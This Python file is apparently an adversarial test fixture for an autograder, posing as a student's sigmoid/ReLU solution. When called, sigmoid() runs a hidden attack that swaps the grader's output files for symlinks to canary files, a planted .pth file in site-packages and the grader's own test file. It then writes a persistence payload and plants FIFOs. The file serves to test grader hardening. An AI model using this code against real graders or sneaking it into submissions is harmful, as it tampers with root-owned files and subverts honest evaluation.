"""ATTACK redirect_output: turn the grader's own file handling against it.

What it tries: the grader runs as root and captures the student's output. The attack finds where
its stdout and stderr go (/proc/self/fd/1 and 2) and, when that is a path, replaces the file
with symlinks to a root-only canary, a world-readable canary and a .pth file in the grader's
site-packages (whose text, appended by root, would run at every Python start). Then it prints a
payload, writes to those targets directly, and plants FIFOs where a grader might read back.

What the grader must guarantee: output is captured through a descriptor made before student code
runs, never by path: no file outside the worker's sandbox changes, the canary's secret never
appears in any output, nothing runs at the next Python start, and the functions score as the
honest twin (the same correct values, no attack).
"""

import os

import numpy as np

ATTACK = True  # the honest twin sets this to False
CANARY = "@CANARY@"  # the tests write their canary folder here


def _targets() -> list[str]:
    site = os.path.dirname(os.path.dirname(np.__file__))
    return [f"{CANARY}/root-only.txt", f"{CANARY}/world-readable.txt",
            os.path.join(site, "bpattack-planted.pth"), "/autograder/source/tests/sigmoid.py"]


def _attack() -> None:
    for fd in (1, 2):
        try:
            path = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if path.startswith("/") and os.path.isfile(path):
            for target in _targets():
                try:
                    os.unlink(path)
                    os.symlink(target, path)
                    break
                except OSError:
                    continue
    print("import os; open('/tmp/BPATTACK-pth-ran', 'w').write('ran as root')")
    for target in _targets():
        try:
            with open(target, "a") as fh:
                fh.write("BPATTACK-REDIRECT\n")
        except OSError:
            pass
    for name in ("output.txt", "results.json", "stdout"):
        try:
            os.mkfifo(name)
        except OSError:
            pass


def sigmoid(Z):
    if ATTACK:
        _attack()
    Z = np.asarray(Z, dtype=float)
    e = np.exp(-np.abs(Z))
    return np.where(Z >= 0, 1 / (1 + e), e / (1 + e))


def sigmoid_derivative(Z):
    s = sigmoid(Z)
    return s * (1 - s)


def sigmoid_backward(dA, Z):
    return dA * sigmoid_derivative(Z)


def relu(Z):
    return np.maximum(np.asarray(Z, dtype=float), 0.0)


def relu_backward(dA, Z):
    return np.where(np.asarray(Z) > 0, dA, 0.0)
